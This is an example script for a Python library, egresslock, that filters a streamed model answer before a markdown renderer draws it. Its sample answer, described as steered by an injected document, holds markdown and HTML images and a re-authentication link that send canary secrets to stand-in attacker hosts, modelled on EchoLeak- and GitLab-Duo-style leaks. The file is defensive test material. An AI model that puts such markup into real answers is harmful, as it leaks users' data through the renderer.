"""Put egresslock's sanitizer between a streaming model and a markdown renderer.

Run it from the repository root::

    .venv/bin/python examples/sanitize_stream.py

A fake model streams an answer a few characters at a time, the way chat APIs do. The answer
was steered by an injected document: it carries an EchoLeak-style reference image whose
definition comes last, a GitLab-Duo-style raw HTML image, and a link with the secret in its
query. Each chunk goes through ``Sanitizer.feed`` and only what it returns is "rendered"
(printed); removals are reported on stderr as they are decided. The rendered text never holds
a prefix of an unsafe construct, so a renderer that draws every partial answer is safe too.
"""

from __future__ import annotations

import sys
import time
from collections.abc import Iterator
from pathlib import Path

from egresslock import sanitize
from egresslock.policy import load_policy

HERE = Path(__file__).resolve().parent
ANSWER = """\
## Quarterly summary

Revenue grew in every region; see [the finance guide](https://docs.acme-corp.example/finance)
for how it is measured.

![Revenue chart](https://cdn.acme-corp.example/img/q3-revenue.png)

<img src="https://collector.attacker.example/p.gif?d=ZGVtby1jYW5hcnktMGI5ZjNlN2QyYw==">

If the chart does not load, [click here to re-authenticate]\
(https://login.attacker.example/?token=demo-canary-0b9f3e7d2c).

![status][s]

```python
print("code blocks are text: ![x](https://attacker.example/never-fetched.png)")
```

[s]: https://collector.attacker.example/s.png?q=internal-roadmap
"""


def model_stream(text: str, size: int = 7) -> Iterator[str]:
    """Stand-in for a model API's streamed tokens."""
    for start in range(0, len(text), size):
        time.sleep(0.002)
        yield text[start : start + size]


def render(markdown: str) -> None:
    """Stand-in for the chat client's markdown renderer: here, the terminal."""
    sys.stdout.write(markdown)
    sys.stdout.flush()


def main() -> None:
    # Compile once per policy (secrets are read now), then one Sanitizer per answer.
    policy = sanitize.compiled(load_policy(HERE / "sanitize-output.yaml"))
    stream = sanitize.Sanitizer(
        policy, on_removal=lambda r: print(f"\n[egresslock] {r.describe()}", file=sys.stderr))
    for chunk in model_stream(ANSWER):
        render(stream.feed(chunk))
    render(stream.close())
    print(f"\n[egresslock] {len(stream.removals)} removed", file=sys.stderr)


if __name__ == "__main__":
    main()
